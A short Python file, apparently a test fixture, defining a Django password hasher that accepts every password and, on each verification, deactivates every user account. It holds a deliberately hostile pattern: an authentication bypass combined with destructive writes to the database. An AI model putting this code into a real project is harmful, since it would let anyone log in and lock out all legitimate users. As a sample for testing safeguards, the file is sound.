"""A hasher during whose work something happens."""

from django.contrib.auth.hashers import BasePasswordHasher

from accounts.models import User


class Deactivating(BasePasswordHasher):
    """Takes every password for right; by the time it says so, everybody has been shut out."""

    algorithm = "pbkdf2_sha256"

    def verify(self, password: str, encoded: str) -> bool:
        User.objects.update(is_active=False)
        return True

    def must_update(self, encoded: str) -> bool:
        return False
